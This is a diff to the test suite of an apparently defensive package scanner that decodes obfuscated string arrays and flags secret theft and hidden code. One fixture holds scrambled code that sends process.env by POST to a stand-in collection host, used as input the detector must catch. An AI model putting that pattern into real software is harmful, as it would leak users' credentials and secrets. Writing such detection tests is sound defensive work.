@@ -27,6 +27,8 @@ describe.each<Coding>(['plain', 'base64', 'rc4'])('%s', (coding) => {
     ['turned nearly round', { turned: strings.length + 4 }],
     ['through a function that moves the index', { wrapped: true }],
     ['turned by counting', { counts: true }],
+    ['with nothing that turns it', { still: true }],
+    ['a plain array with nothing that turns it', { still: true, counts: true }],
   ])('%s', (_, more) => {
     const source = scrambled({ coding, strings, code: `result = [${each}];`, ...more });
     // Ours, and inert: what it really gives.
@@ -42,14 +44,24 @@ describe('every rule sees what was decoded', async () => {
   const findings = (code: string) =>
     check(rules, { kind: 'package', package: packageOf({ name: '', code }), root: true }).value;
 
-  test.each<Coding>(['plain', 'base64', 'rc4'])('%s', (coding) => {
+  test.each<readonly [Coding, boolean]>([
+    ['plain', false],
+    ['base64', false],
+    ['rc4', false],
+    ['plain', true],
+    ['rc4', true],
+  ])('%s, still: %s', (coding, still) => {
     const source = scrambled({
       coding,
+      still,
       strings: ['https', 'https://collect.example/x', 'POST', 'request', 'end', 'stringify', 'env'],
       code: 'const r=require(«0»)[«3»](«1»,{method:«2»});r[«4»](JSON[«5»](process[«6»]));',
     });
     const found = findings(source);
-    expect(found.map(({ rule }) => rule)).toEqual(expect.arrayContaining(['secrets-sent', 'veiled-code']));
+    expect(found.map(({ rule }) => rule)).toEqual(
+      expect.arrayContaining(['secrets-sent', ...(still ? [] : ['veiled-code'])]),
+    );
+    if (still) return;
     const scrambling = found.find(({ message }) => message.startsWith('was scrambled'));
     expect(scrambling?.evidence.map(({ note, snippet }) => [note, snippet])).toContainEqual([
       'decoded',
@@ -68,6 +80,21 @@ describe('nothing is told', () => {
     const changed = change(source);
     expect(changed).not.toBe(source);
     expect(decoded(changed)).toEqual([]);
+  });
+
+  test.each([
+    ['is changed by others', "list.push('e');"],
+    ['is handed on', 'change(list);'],
+    ['is told by another function', 'const all=()=>list;'],
+  ])('of an array that %s', (_, more) => {
+    const code = `const list=['a','b','c','d'];const at=(i)=>{i=i-1;return list[i]};f(at(1));`;
+    expect(decoded(code)).toEqual(['a']);
+    expect(decoded(code + more)).toEqual([]);
+  });
+
+  test('of what is made of an element', () => {
+    const code = "const list=['a','b','c'];const at=(i)=>{i=i-1;return list[i].length};f(at(1))";
+    expect(decoded(code)).toEqual([]);
   });
 
   test('of a queue that is turned honestly', () => {
